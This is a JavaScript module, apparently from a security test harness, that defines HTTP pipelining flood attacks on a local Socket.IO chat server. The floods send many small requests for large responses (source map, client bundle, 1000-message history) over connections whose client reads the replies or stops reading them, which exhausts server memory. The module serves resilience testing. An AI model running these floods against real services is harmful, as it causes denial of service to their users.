import { request } from '../../../harness/connection.js';
import { filled } from '../attacker/kit.js';

// Requests that do not wait for their answers: small heads, large answers.

export const API_KEY = 'attack-key';
const ENGINE = '/socket.io/?EIO=4&transport=polling';
const page = request('GET', '/api/rooms/filled/messages?limit=1000', { Authorization: `Bearer ${API_KEY}` });

/** Requests by what they ask for. */
const targets = {
  'the source map of the client': request('GET', '/socket.io/socket.io.js.map'),
  'the client': request('GET', '/socket.io/socket.io.js'),
  'the largest static file': request('GET', '/style.css'),
  'the OpenAPI document': request('GET', '/api/openapi.json'),
  metrics: request('GET', '/metrics'),
  statistics: request('GET', '/api/stats'),
  'the page of history': page,
  'polling handshakes': request('GET', ENGINE),
  'paths that are not there': request('GET', '/no/such/path'),
  'sessions that are not there': request('GET', `${ENGINE}&sid=1.AAAAAAAAAAAAAAAAAAAA`),
};

const SIZE = 477_000;
const PART = 79_000;

/** One connection, or several, each with a pipeline of its own, again and again. */
function pipeline(name, head, { connections = 1, size = SIZE, isReading }) {
  const bytes = filled(head, size);
  const reader = isReading ? 'a client that reads' : 'a client that does not read';
  return {
    name: `pipeline: ${name}, ${connections} × ${Math.round(size / 1000)} KB, ${reader}`,
    about: `${Math.floor(size / head.length)} requests of ${head.length} bytes at once, on each connection`,
    environment: { API_KEY },
    prepare: head === page ? fill : undefined,
    run: (attacker) =>
      Promise.all(
        Array.from({ length: connections }, () =>
          attacker.floodOn(async () => {
            const connection = await attacker.http();
            return isReading ? connection.discard() : connection.stopReading();
          }, bytes),
        ),
      ),
  };
}

/** Fills a room with as much as a page can hold. */
export async function fill({ port }, room = 'filled') {
  const text = 'x'.repeat(10_000);
  for (let batch = 0; batch < 20; batch++) {
    const response = await fetch(`http://127.0.0.1:${port}/api/rooms/${room}/messages`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${API_KEY}` },
      body: JSON.stringify({ messages: Array.from({ length: 50 }, () => ({ text })) }),
    });
    if (!response.ok) throw new Error(`the room was not filled: ${await response.text()}`);
  }
}

/** @type {import('../attacks.js').Attack[]} */
export const pipelines = [
  ...Object.entries(targets).flatMap(([name, head]) => [
    pipeline(name, head, { isReading: false }),
    pipeline(name, head, { isReading: true }),
  ]),
  pipeline('the source map of the client', targets['the source map of the client'], {
    connections: 3,
    size: PART,
    isReading: false,
  }),
  pipeline('the page of history', page, { connections: 3, size: PART, isReading: false }),
];
